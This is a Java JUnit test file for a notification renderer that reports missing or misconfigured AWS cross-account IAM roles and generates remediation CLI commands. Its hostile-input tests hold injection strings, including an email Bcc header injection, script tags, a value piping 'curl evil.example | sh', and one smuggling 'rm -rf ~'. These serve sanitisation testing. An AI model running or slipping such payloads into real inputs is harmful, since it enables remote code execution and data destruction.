package io.orgaccessguard.notify;

import static io.orgaccessguard.notify.Fixtures.GOV_ORGANIZATION;
import static io.orgaccessguard.notify.Fixtures.MEMBER;
import static io.orgaccessguard.notify.Fixtures.bootstrapped;
import static io.orgaccessguard.notify.Fixtures.config;
import static io.orgaccessguard.notify.Fixtures.linesStartingWith;
import static io.orgaccessguard.notify.Fixtures.list;
import static io.orgaccessguard.notify.Fixtures.object;
import static io.orgaccessguard.notify.Fixtures.quotedJson;
import static io.orgaccessguard.notify.Fixtures.result;
import static io.orgaccessguard.notify.Fixtures.unknownAccount;
import static io.orgaccessguard.testsupport.Fixtures.ADMINISTRATOR_ACCESS;
import static io.orgaccessguard.testsupport.Fixtures.MANAGEMENT_ACCOUNT_ID;
import static io.orgaccessguard.testsupport.Fixtures.MANAGEMENT_ROOT;
import static io.orgaccessguard.testsupport.Fixtures.ORGANIZATION;
import static org.assertj.core.api.Assertions.assertThat;

import io.orgaccessguard.core.model.Outcome;
import io.orgaccessguard.config.GuardConfig;
import io.orgaccessguard.json.Json;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import software.amazon.awssdk.policybuilder.iam.IamPolicy;

class NotificationRendererTest {

    private static final String ROLE_ARN = "arn:aws:iam::" + MEMBER + ":role/OrganizationAccountAccessRole";

    private final NotificationRenderer renderer = new NotificationRenderer();
    private final GuardConfig defaults = config();

    private Notification render(ResultWords result) {
        return renderer.render(result, ORGANIZATION, defaults);
    }

    private static Map<String, Object> machine(Notification notification) {
        return object(Json.parse(notification.machineJson()));
    }

    // --- subject and attributes -------------------------------------------------------------------------------

    @Test
    void render_roleMissing_subjectNamesOutcomeAccountIdAndName() {
        assertThat(render(result(Outcome.ROLE_MISSING)).subject())
                .isEqualTo("[org-access-guard] ROLE_MISSING: 222233334444 (Payments Prod)");
    }

    @Test
    void render_emptyName_subjectLeavesOutTheParentheses() {
        assertThat(render(unknownAccount(MEMBER, Outcome.FAILED, "boom")).subject())
                .isEqualTo("[org-access-guard] FAILED: 222233334444");
    }

    @ParameterizedTest
    @EnumSource(Outcome.class)
    void render_anyOutcome_attributesCarryOutcomeAndAccountIdsForFilterPolicies(Outcome outcome) {
        assertThat(render(result(outcome)).attributes()).containsExactlyInAnyOrderEntriesOf(Map.of(
                "outcome", outcome.name(), "accountId", MEMBER, "managementAccountId", MANAGEMENT_ACCOUNT_ID));
    }

    @ParameterizedTest
    @EnumSource(Outcome.class)
    void render_anyOutcome_subjectAndEmailNameTheOutcome(Outcome outcome) {
        Notification notification = render(result(outcome));

        assertThat(notification.subject()).contains(outcome.name() + ": " + MEMBER);
        assertThat(notification.emailText()).contains("Outcome: " + outcome.name());
        assertThat(machine(notification)).containsEntry("outcome", outcome.name());
    }

    // --- hostile account names ---------------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {
        "Payments\nProd\r\nBcc: evil@example.com",
        "Tab\there\u000b\u000c and\u0000nul\u0007bell\u001b[31m",
        "<script>alert('x')</script><a href=\"https://evil.example\">click</a>",
        "\uD83D\uDE80 Raketen-Gesch\u00e4ft \u65E5\u672C \u202Egnp.exe \u200B",
        "\u0085next line\u2028line separator\u00a0nbsp",
        "                                   ",
    })
    void render_hostileName_subjectIsOneBoundedAsciiLineSnsAccepts(String name) {
        String subject = render(result(Outcome.ROLE_MISSING, name)).subject();

        assertThat(subject).hasSizeLessThanOrEqualTo(SubjectLine.MAX_LENGTH).matches("[\\x20-\\x7E]+")
                .startsWith("[org-access-guard] ROLE_MISSING: " + MEMBER)
                .doesNotContain("<", ">");
        assertThat(subject.charAt(0)).matches(c -> Character.isLetterOrDigit(c) || isPunctuation(c));
    }

    @Test
    void render_nameOf500Characters_subjectCutWithEllipsisKeepsOutcomeAndId() {
        String subject = render(result(Outcome.ROLE_CREATED_UNVERIFIED, "x".repeat(500))).subject();

        assertThat(subject).hasSizeLessThanOrEqualTo(SubjectLine.MAX_LENGTH)
                .startsWith("[org-access-guard] ROLE_CREATED_UNVERIFIED: 222233334444 (xxx")
                .endsWith("...)");
    }

    @Test
    void render_hostileAccountId_subjectStaysOneBoundedLine() {
        var result = unknownAccount("1\n2".repeat(200), Outcome.FAILED, "not an account");

        String subject = render(result).subject();

        assertThat(subject).hasSizeLessThanOrEqualTo(SubjectLine.MAX_LENGTH).matches("[\\x20-\\x7E]+").contains("FAILED: 1 21 21 2");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "Payments\nProd\r\nOutcome: ACCESS_VERIFIED",
        "<script>alert(1)</script>",
        "\uD83D\uDE80 Caf\u00e9\t\u0000\u001b[2J",
    })
    void render_hostileName_emailIsPrintableAsciiAndTheNameSplitsNoLine(String name) {
        String email = render(result(Outcome.ROLE_MISSING, name)).emailText();

        assertThat(email.lines()).allSatisfy(line -> assertThat(line).matches("[\\x20-\\x7E]*"));
        assertThat(email).doesNotContain("\r", "<", ">");
        // The forged line must not appear as a line of its own.
        assertThat(email.lines()).doesNotContain("Outcome: ACCESS_VERIFIED", "Prod");
        assertThat(linesStartingWith(email, "Account name:")).singleElement()
                .satisfies(line -> assertThat(line).contains(PlainText.oneLine(name)));
    }

    @Test
    void render_hostileName_machineJsonKeepsTheRawNameEscaped() {
        String name = "Payments\n\"Prod\"\u0000<b>\uD83D\uDE80";

        Notification notification = render(result(Outcome.ROLE_MISSING, name));

        assertThat(notification.machineJson()).doesNotContain("\n");
        assertThat(machine(notification)).containsEntry("accountName", name);
    }

    @Test
    void render_hostileName_neverReachesACommand() {
        String email = render(result(Outcome.ROLE_MISSING, "x' ; curl evil.example | sh ; '")).emailText();

        assertThat(linesStartingWith(email, "aws ")).isNotEmpty().noneMatch(line -> line.contains("evil"));
    }

    @Test
    void render_accountIdNotTwelveDigits_givesNoCommandsAndSaysWhy() {
        var result = unknownAccount("12345'; rm -rf ~; '", Outcome.FAILED, "unknown account");

        Notification notification = render(result);

        assertThat(linesStartingWith(notification.emailText(), "aws ")).isEmpty();
        assertThat(notification.emailText()).contains("is not a 12-digit AWS account ID");
        // Json leaves out null values, so a field that cannot be known is absent.
        assertThat(machine(notification)).doesNotContainKeys("remediation", "accessRoleArn");
    }

    // --- ROLE_MISSING ------------------------------------------------------------------------------------------

    @Test
    void render_roleMissing_emailSaysWhyItMatters() {
        assertThat(render(result(Outcome.ROLE_MISSING)).emailText())
                .contains("cannot assume OrganizationAccountAccessRole")
                .contains("nobody in the management account (" + MANAGEMENT_ACCOUNT_ID + ") can get into this account")
                .contains("Reason:              AssumeRole was denied");
    }

    @Test
    void render_roleMissing_emailHasTheDocumentedConsoleStepsWithTheRealIds() {
        String email = render(result(Outcome.ROLE_MISSING)).emailText();

        assertThat(email).containsSubsequence(
                "signed in to account " + MEMBER,
                "go to Roles and choose Create role",
                "Choose AWS account, then Another AWS account",
                "enter the management account ID " + MANAGEMENT_ACCOUNT_ID, "Choose Next",
                "select AdministratorAccess (" + ADMINISTRATOR_ACCESS + ")", "choose Next",
                "For Role name, enter OrganizationAccountAccessRole, then choose Create role");
    }

    @Test
    void render_roleMissing_createRoleCommandTrustsTheManagementAccountRoot() {
        String email = render(result(Outcome.ROLE_MISSING)).emailText();

        List<String> createRole = linesStartingWith(email, "aws iam create-role --role-name OrganizationAccountAccessRole ");
        assertThat(createRole).singleElement()
                .satisfies(line -> assertThat(line).contains("--assume-role-policy-document '{"));
        Map<String, Object> trust = quotedJson(createRole.getFirst());
        Map<String, Object> statement = object(trust.get("Statement"));
        assertThat(trust).containsEntry("Version", "2012-10-17");
        assertThat(statement).containsEntry("Effect", "Allow").containsEntry("Action", "sts:AssumeRole");
        assertThat(object(statement.get("Principal"))).containsEntry("AWS", MANAGEMENT_ROOT);
        // The SDK's own reader accepts it too, so IAM will.
        assertThat(IamPolicy.fromJson(Json.write(trust)).statements()).hasSize(1);
    }

    @Test
    void render_roleMissing_oneAttachCommandPerConfiguredPolicy() {
        GuardConfig config = config("ACCESS_POLICY_ARNS",
                "arn:aws:iam::aws:policy/ReadOnlyAccess,arn:aws:iam::aws:policy/job-function/Billing");

        String email = renderer.render(result(Outcome.ROLE_MISSING), ORGANIZATION, config).emailText();

        assertThat(linesStartingWith(email, "aws iam attach-role-policy")).containsExactly(
                "aws iam attach-role-policy --role-name OrganizationAccountAccessRole"
                        + " --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess",
                "aws iam attach-role-policy --role-name OrganizationAccountAccessRole"
                        + " --policy-arn arn:aws:iam::aws:policy/job-function/Billing");
        assertThat(email).contains("select ReadOnlyAccess (arn:aws:iam::aws:policy/ReadOnlyAccess), Billing (");
    }

    @Test
    void render_roleMissing_customRoleNameAndTrustedPrincipalsAreUsed() {
        String principal = "arn:aws:iam::" + MANAGEMENT_ACCOUNT_ID + ":role/PlatformAdmins";
        GuardConfig config = config("ACCESS_ROLE_NAME", "OrgAdmin", "TRUSTED_PRINCIPAL_ARNS", principal);

        String email = renderer.render(result(Outcome.ROLE_MISSING), ORGANIZATION, config).emailText();

        String createRole = linesStartingWith(email, "aws iam create-role --role-name OrgAdmin ").getFirst();
        assertThat(object(object(quotedJson(createRole).get("Statement")).get("Principal")))
                .containsEntry("AWS", principal);
        assertThat(email).contains("For Role name, enter OrgAdmin")
                .contains("trust only " + principal)
                .contains("aws iam update-assume-role-policy --role-name OrgAdmin");
    }

    @Test
    void render_roleMissingWithoutBootstrapRoles_suggestsTheDefaultNameAndConfiguringIt() {
        String email = render(result(Outcome.ROLE_MISSING)).emailText();

        assertThat(linesStartingWith(email, "aws iam create-role --role-name OrgAccessGuardBootstrap ")).hasSize(1);
        assertThat(linesStartingWith(email, "aws iam put-role-policy --role-name OrgAccessGuardBootstrap ")).hasSize(1);
        assertThat(email).contains("BOOTSTRAP_ROLE_NAMES is empty").contains("add OrgAccessGuardBootstrap")
                .contains("CloudFormation StackSet");
    }

    @Test
    void render_roleMissingWithBootstrapRoles_suggestsTheFirstConfiguredName() {
        GuardConfig config = config("BOOTSTRAP_ROLE_NAMES", "PlatformBootstrap,OtherBootstrap");

        String email = renderer.render(result(Outcome.ROLE_MISSING), ORGANIZATION, config).emailText();

        assertThat(linesStartingWith(email, "aws iam create-role --role-name PlatformBootstrap ")).hasSize(1);
        assertThat(email).doesNotContain("BOOTSTRAP_ROLE_NAMES is empty", "OtherBootstrap");
    }

    @Test
    void render_roleMissing_bootstrapPolicyAllowsOnlyRoleManagementOnTheAccessRole() {
        String email = render(result(Outcome.ROLE_MISSING)).emailText();

        String putRolePolicy = linesStartingWith(email, "aws iam put-role-policy").getFirst();
        Map<String, Object> statement = object(quotedJson(putRolePolicy).get("Statement"));
        assertThat(statement).containsEntry("Effect", "Allow").containsEntry("Resource", ROLE_ARN)
                .doesNotContainKeys("NotAction", "NotResource", "Condition");
        assertThat(list(statement.get("Action"))).containsExactly("iam:CreateRole", "iam:GetRole", "iam:TagRole",
                "iam:AttachRolePolicy", "iam:ListAttachedRolePolicies", "iam:ListRolePolicies", "iam:GetRolePolicy",
                "iam:UpdateAssumeRolePolicy");
        String bootstrapTrust = linesStartingWith(email, "aws iam create-role --role-name OrgAccessGuardBootstrap")
                .getFirst();
        assertThat(object(object(quotedJson(bootstrapTrust).get("Statement")).get("Principal")))
                .containsEntry("AWS", MANAGEMENT_ROOT);
    }

    @Test
    void render_roleMissing_recheckCommandInvokesTheConfiguredFunctionForThisAccount() {
        GuardConfig config = config("RECHECK_FUNCTION_NAME", "guard-prod-check");

        String email = renderer.render(result(Outcome.ROLE_MISSING), ORGANIZATION, config).emailText();

        assertThat(linesStartingWith(email, "printf")).containsExactly("printf '%s' '{\"accountIds\":[\"" + MEMBER
                + "\"]}' | AWS_MAX_ATTEMPTS=1 aws lambda invoke --function-name guard-prod-check --region us-east-1"
                + " --cli-read-timeout 0 --payload fileb:///dev/stdin /dev/stdout");
    }

    @Test
    void render_roleMissing_machineJsonHasTheResultAndTheSameCommands() {
        Notification notification = render(result(Outcome.ROLE_MISSING));

        Map<String, Object> json = machine(notification);
        assertThat(json).containsEntry("accountId", MEMBER).containsEntry("accountName", "Payments Prod")
                .containsEntry("joinedMethod", "INVITED").containsEntry("outcome", "ROLE_MISSING")
                .containsEntry("reason", "AssumeRole was denied").doesNotContainKey("bootstrapRole")
                .containsEntry("actions", List.of()).containsEntry("managementAccountId", MANAGEMENT_ACCOUNT_ID)
                .containsEntry("partition", "aws").containsEntry("accessRoleArn", ROLE_ARN)
                .containsEntry("needsPerson", true).doesNotContainKey("access");
        Map<String, Object> remediation = object(json.get("remediation"));
        assertThat(notification.emailText()).contains((String) remediation.get("createRole"))
                .contains((String) remediation.get("recheck"));
        assertThat(list(remediation.get("attachRolePolicies"))).hasSize(1);
        assertThat(object(object(remediation.get("trustPolicy")).get("Statement"))).containsEntry("Action",
                "sts:AssumeRole");
        assertThat(object(remediation.get("bootstrap"))).containsEntry("roleName", "OrgAccessGuardBootstrap")
                .containsEntry("listedInBootstrapRoleNames", false);
        // AccessDenied cannot tell a missing role from one that trusts someone else, so both fixes are given.
        assertThat(notification.emailText()).contains((String) remediation.get("updateAssumeRolePolicy"))
                .contains("If OrganizationAccountAccessRole exists but does not admit the management account");
        assertThat(remediation).doesNotContainKey("verify");
    }

    @Test
    void render_anyResult_machineJsonHasOnlyResultFieldsAndNoSecrets() {
        Map<String, Object> json = machine(render(bootstrapped(Outcome.ROLE_CREATED, List.of("CreateRole"))));

        assertThat(json.keySet()).containsExactly("source", "schemaVersion", "accountId", "accountName",
                "joinedMethod", "outcome", "reason", "bootstrapRole", "actions", "needsPerson", "organizationId",
                "managementAccountId", "partition", "accessRoleName", "accessRoleArn", "access");
        assertThat(json.toString().toLowerCase()).doesNotContain("secret", "token", "password", "accesskey");
    }

    // --- other problems ----------------------------------------------------------------------------------------

    @Test
    void render_trustMismatch_updatesTheTrustInsteadOfCreatingTheRole() {
        Notification notification = render(result(Outcome.TRUST_MISMATCH));
        String email = notification.emailText();

        assertThat(linesStartingWith(email, "aws iam create-role --role-name OrganizationAccountAccessRole")).isEmpty();
        List<String> update = linesStartingWith(email, "aws iam update-assume-role-policy");
        assertThat(update).singleElement().satisfies(line -> assertThat(line)
                .startsWith("aws iam update-assume-role-policy --role-name OrganizationAccountAccessRole"
                        + " --policy-document '"));
        assertThat(object(object(quotedJson(update.getFirst()).get("Statement")).get("Principal")))
                .containsEntry("AWS", MANAGEMENT_ROOT);
        assertThat(email).contains("Trust relationships / Edit trust policy")
                .contains("REPAIR_TRUST is false, so a bootstrap role is not used to repair trust");
        assertThat(object(machine(notification).get("remediation")))
                .containsKeys("updateAssumeRolePolicy", "bootstrap", "recheck")
                .doesNotContainKeys("createRole", "attachRolePolicies");
    }

    @Test
    void render_trustMismatchWithRepairTrustOn_doesNotAskToTurnItOn() {
        GuardConfig config = config("REPAIR_TRUST", "true");

        String email = renderer.render(result(Outcome.TRUST_MISMATCH), ORGANIZATION, config).emailText();

        assertThat(email).doesNotContain("REPAIR_TRUST is false").contains("no bootstrap role could do it");
    }

    @Test
    void render_roleIncomplete_attachesPoliciesWithoutCreatingOrReTrusting() {
        String email = render(result(Outcome.ROLE_INCOMPLETE)).emailText();

        assertThat(linesStartingWith(email, "aws iam attach-role-policy")).hasSize(1);
        assertThat(linesStartingWith(email, "aws iam update-assume-role-policy")).isEmpty();
        assertThat(linesStartingWith(email, "aws iam create-role --role-name OrganizationAccountAccessRole")).isEmpty();
        assertThat(email).contains("lacks some of the configured policies").contains("aws lambda invoke");
    }

    @ParameterizedTest
    @EnumSource(value = Outcome.class, names = {"ROLE_CREATED_UNVERIFIED", "REPAIRED_UNVERIFIED"})
    void render_unverified_recheckComesFirstThenInspectionAndFixes(Outcome outcome) {
        String email = render(bootstrapped(outcome, List.of("CreateRole OrganizationAccountAccessRole"))).emailText();

        assertThat(email).contains("propagation wait ran out").contains("through OrgAccessGuardBootstrap")
                .containsSubsequence("1. Re-check", "aws lambda invoke", "2. If the re-check fails again",
                        "aws iam get-role --role-name OrganizationAccountAccessRole", "aws iam list-attached-role-policies",
                        "3. To set the trust policy", "aws iam update-assume-role-policy", "4. To attach",
                        "aws iam attach-role-policy")
                .contains("    - CreateRole OrganizationAccountAccessRole");
    }

    @Test
    void render_failed_givesBothCreateAndTrustFixesAndTheReason() {
        var failed = new ResultWords(MEMBER, "Payments Prod", "INVITED", Outcome.FAILED,
                "ThrottlingException: Rate exceeded", Optional.empty(), List.of(), Optional.empty());

        String email = render(failed).emailText();

        assertThat(email).contains("Reason:              ThrottlingException: Rate exceeded")
                .contains("Treat access as missing until a re-check succeeds")
                .containsSubsequence("If OrganizationAccountAccessRole does not exist", "aws iam create-role",
                        "exists but does not admit the management account", "aws iam update-assume-role-policy",
                        "aws lambda invoke");
    }

    @Test
    void render_wouldCreate_saysDryRunAndGivesCommandsWithoutBootstrap() {
        String email = render(result(Outcome.WOULD_CREATE)).emailText();

        assertThat(email).contains("Dry run (DRY_RUN is true)").contains("Nothing was changed");
        assertThat(linesStartingWith(email, "aws iam create-role")).hasSize(1);
        assertThat(email).doesNotContain("bootstrap role it may assume");
    }

    // --- partitions --------------------------------------------------------------------------------------------

    @Test
    void render_govCloud_everyArnIsInTheGovCloudPartition() {
        Notification notification = renderer.render(result(Outcome.ROLE_MISSING), GOV_ORGANIZATION, defaults);
        String email = notification.emailText();

        assertThat(email).doesNotContain("arn:aws:")
                .contains("arn:aws-us-gov:iam::aws:policy/AdministratorAccess")
                .contains("arn:aws-us-gov:iam::" + MEMBER + ":role/OrganizationAccountAccessRole");
        String createRole = linesStartingWith(email, "aws iam create-role --role-name OrganizationAccountAccessRole")
                .getFirst();
        assertThat(object(object(quotedJson(createRole).get("Statement")).get("Principal")))
                .containsEntry("AWS", "arn:aws-us-gov:iam::" + MANAGEMENT_ACCOUNT_ID + ":root");
        assertThat(linesStartingWith(email, "aws iam attach-role-policy")).containsExactly(
                "aws iam attach-role-policy --role-name OrganizationAccountAccessRole"
                        + " --policy-arn arn:aws-us-gov:iam::aws:policy/AdministratorAccess");
        String putRolePolicy = linesStartingWith(email, "aws iam put-role-policy").getFirst();
        assertThat(object(quotedJson(putRolePolicy).get("Statement")))
                .containsEntry("Resource", "arn:aws-us-gov:iam::" + MEMBER + ":role/OrganizationAccountAccessRole");
        assertThat(machine(notification)).containsEntry("partition", "aws-us-gov");
    }

    @Test
    void render_govCloudAccessVerified_linkAndProfileUseThePartition() {
        String email = renderer.render(result(Outcome.ACCESS_VERIFIED), GOV_ORGANIZATION, defaults).emailText();

        assertThat(email).contains("https://" + GOV_ORGANIZATION.consoleHost() + "/switchrole?account=" + MEMBER)
                .contains("role_arn = arn:aws-us-gov:iam::" + MEMBER + ":role/OrganizationAccountAccessRole");
    }

    // --- access in place ---------------------------------------------------------------------------------------

    @Test
    void render_accessVerified_givesSwitchRoleLinkAndCliProfileAndNoRemediation() {
        Notification notification = render(result(Outcome.ACCESS_VERIFIED));
        String email = notification.emailText();

        assertThat(email).contains("https://signin.aws.amazon.com/switchrole?account=222233334444"
                        + "&roleName=OrganizationAccountAccessRole&displayName=Payments%20Prod")
                .contains("[profile payments-prod]\n", "role_arn = " + ROLE_ARN + "\n", "source_profile = management\n")
                .contains("aws sts assume-role --role-arn " + ROLE_ARN + " --role-session-name org-access-" + MEMBER)
                .doesNotContain("WHAT TO DO", "aws iam create-role");
        Map<String, Object> json = machine(notification);
        assertThat(json).doesNotContainKey("remediation").containsEntry("needsPerson", false);
        assertThat(object(json.get("access"))).containsEntry("roleArn", ROLE_ARN);
    }

    @Test
    void render_accessWithUnusualRoleAndName_linkEncodesThemAndProfileFallsBackToTheId() {
        GuardConfig config = config("ACCESS_ROLE_NAME", "Org+Admin=1,x@y");

        String email = renderer.render(result(Outcome.ROLE_COMPLETED, "\uD83D\uDE80\uD83D\uDE80"), ORGANIZATION,
                config).emailText();

        assertThat(email).contains("&roleName=Org%2BAdmin%3D1%2Cx%40y&displayName=%3F%3F")
                .contains("[profile " + MEMBER + "]");
    }

    @ParameterizedTest
    @EnumSource(value = Outcome.class, names = {"ROLE_CREATED", "ROLE_COMPLETED", "TRUST_REPAIRED"})
    void render_changeMadeThroughBootstrap_namesTheBootstrapRoleAndTheActions(Outcome outcome) {
        var result = bootstrapped(outcome, List.of("CreateRole OrganizationAccountAccessRole",
                "AttachRolePolicy " + ADMINISTRATOR_ACCESS));

        Notification notification = render(result);

        assertThat(notification.emailText()).contains("through OrgAccessGuardBootstrap")
                .contains("Bootstrap role used: OrgAccessGuardBootstrap")
                .contains("    - CreateRole OrganizationAccountAccessRole\n    - AttachRolePolicy " + ADMINISTRATOR_ACCESS
                        + "\n")
                .contains("HOW TO GET IN");
        assertThat(machine(notification)).containsEntry("bootstrapRole", "OrgAccessGuardBootstrap")
                .containsEntry("actions", result.actions());
    }

    @Test
    void render_sameResultTwice_rendersTheSameNotification() {
        assertThat(render(result(Outcome.ROLE_MISSING))).isEqualTo(render(result(Outcome.ROLE_MISSING)));
    }

    private static boolean isPunctuation(char c) {
        return "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~".indexOf(c) >= 0;
    }
}
